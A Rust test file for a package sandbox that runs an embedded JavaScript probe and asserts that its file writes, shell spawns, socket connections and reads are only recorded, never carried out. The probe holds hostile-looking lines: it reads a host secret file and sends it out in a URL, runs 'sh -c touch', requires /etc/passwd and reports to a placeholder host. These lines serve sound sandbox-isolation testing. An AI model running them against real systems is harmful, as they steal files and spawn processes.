//! Code in the sandbox that tries every real effect gets recordings, never the effect: no
//! file is written, no process started, no connection made, no file outside the package read.

use portcullis_core::{FileKind, Origin, Package, SourceFile};
use portcullis_dynamic::{Limits, run_package};
use std::net::TcpListener;

#[test]
fn no_network_file_or_process_access_leaves_the_sandbox() {
    let dir = tempfile::tempdir().unwrap();
    let written = dir.path().join("written-by-sandbox");
    let spawned = dir.path().join("touched-by-spawn");
    let secret = dir.path().join("host-secret.txt");
    std::fs::write(&secret, "HOST-ONLY-CONTENT-7d1e").unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();

    let code = format!(
        r#"
const fs = require('fs'), cp = require('child_process'), net = require('net'), http = require('http');
fs.writeFileSync({w:?}, 'x');
cp.execSync('touch ' + {s:?});
cp.spawn('sh', ['-c', 'touch ' + {s:?}]);
const leaked = fs.readFileSync({r:?}, 'utf8');
net.connect({port}, '127.0.0.1').write('hello');
http.get('http://127.0.0.1:{port}/x?c=' + leaked);
fetch('http://127.0.0.1:{port}/y');
let escaped = [];
for (const spec of ['../../../../etc/passwd', '/etc/passwd']) {{
  try {{ const m = require(spec); if (m && typeof m === 'object' && Object.keys(m).length) escaped.push(spec); }} catch (e) {{}}
}}
// The host bindings are not reachable from the global object.
const exposed = ['record', 'read', 'compile', 'host'].filter((k) => k in globalThis);
require('https').get('https://report.example.test/?escaped=' + escaped.join(',') + '&exposed=' + exposed.join(','));
"#,
        w = written.to_str().unwrap(),
        s = spawned.to_str().unwrap(),
        r = secret.to_str().unwrap(),
    );
    let mut pkg = Package {
        source: "isolation".into(),
        origin: Origin::Directory,
        sha256: String::new(),
        files: vec![
            SourceFile::new(
                "package.json",
                FileKind::Json,
                br#"{"name":"probe","version":"1.0.0","main":"index.js"}"#.to_vec(),
            ),
            SourceFile::new("index.js", FileKind::JavaScript, code.into_bytes()),
        ],
    };
    pkg.sort();
    let report = run_package(&pkg, None, &Limits::default());

    // Every attempt was recorded…
    let kinds: Vec<&str> = report.observations.iter().map(|o| o.kind()).collect();
    for k in ["file", "spawn", "request", "module-escape"] {
        assert!(kinds.contains(&k), "no {k} observation: {kinds:?}");
    }
    let urls: Vec<&str> = report
        .observations
        .iter()
        .filter(|o| o.kind() == "request")
        .filter_map(|o| o.str("url"))
        .collect();
    assert!(
        urls.iter()
            .any(|u| u.contains(&format!("127.0.0.1:{port}"))),
        "{urls:?}"
    );
    // …nothing escaped and no binding is exposed…
    assert!(
        urls.contains(&"https://report.example.test/?escaped=&exposed="),
        "{urls:?}"
    );
    // …and nothing happened outside: no file, no process, no connection, no host file read.
    assert!(!written.exists(), "the sandbox wrote a real file");
    assert!(!spawned.exists(), "the sandbox ran a real process");
    assert!(
        matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the sandbox opened a real connection"
    );
    let all = serde_json::to_string(&report.observations).unwrap();
    assert!(
        !all.contains("HOST-ONLY-CONTENT-7d1e"),
        "a host file was read"
    );
}
